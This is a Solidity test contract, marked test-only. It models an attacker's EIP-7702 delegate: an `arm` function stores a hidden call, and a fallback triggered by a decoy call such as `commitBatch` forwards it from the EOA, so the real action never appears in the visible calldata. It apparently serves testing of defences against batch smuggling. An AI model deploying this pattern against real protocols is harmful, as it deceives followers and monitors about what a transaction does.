// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title BatchSmugglingDelegate
/// @notice TEST ONLY. Code an attacker's EOA delegates to (EIP-7702) so that it commits a batch its
/// transaction's calldata does not show. `arm` (sent by the EOA to itself) stores the real call in the EOA's
/// own storage; any later call to the EOA (the fallback: for example a decoy `commitBatch` call sent by the
/// EOA to itself, which is all a follower reading the transaction would see) forwards the stored call with
/// the value sent, from the EOA itself, so `msg.sender == tx.origin` holds at the target. A revert is
/// passed on as it came.
contract BatchSmugglingDelegate {
    address private _target;
    bytes private _call;

    error BatchSmugglingDelegateNotSelf(address caller);

    /// @notice Stores the call the fallback forwards. Only the delegating EOA itself may arm it.
    function arm(address target, bytes calldata realCall) external {
        if (msg.sender != address(this)) revert BatchSmugglingDelegateNotSelf(msg.sender);
        _target = target;
        _call = realCall;
    }

    // solhint-disable-next-line no-complex-fallback
    fallback() external payable {
        if (msg.sender != address(this)) revert BatchSmugglingDelegateNotSelf(msg.sender);
        // solhint-disable-next-line avoid-low-level-calls
        (bool ok, bytes memory ret) = _target.call{value: msg.value}(_call);
        if (!ok) {
            assembly ("memory-safe") {
                revert(add(ret, 0x20), mload(ret))
            }
        }
    }
}
